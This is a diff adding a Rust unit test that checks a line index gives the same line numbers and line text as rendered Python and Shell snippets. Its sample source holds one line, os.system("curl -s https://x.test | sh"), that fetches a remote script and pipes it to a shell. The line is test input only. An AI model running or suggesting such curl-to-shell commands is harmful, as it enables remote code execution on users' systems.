@@ -72,3 +72,28 @@ fn a_rendering_past_its_budget_says_it_was_cut() {
     .unwrap_or_default();
     assert!(rendered.cut);
 }
+
+#[test]
+fn the_line_index_answers_as_the_rendering_does() {
+    let src = "import os\nx = 'a' + \\\n  'b'\nos.system(\"curl -s https://x.test | sh\")\n\nprint('y')\n";
+    for lang in [Lang::Python, Lang::Shell] {
+        let Some(rendered) = render(&Unit {
+            lang,
+            src,
+            first_line: 3,
+        }) else {
+            continue;
+        };
+        let index = super::LineIndex::new(&rendered);
+        for at in 0..rendered.text.len() + 4 {
+            assert_eq!(index.line_of(at), rendered.line_of(at), "{lang:?} at {at}");
+        }
+        for line in 0..12 {
+            assert_eq!(
+                index.line_text(line),
+                rendered.line_text(line),
+                "{lang:?} {line}"
+            );
+        }
+    }
+}
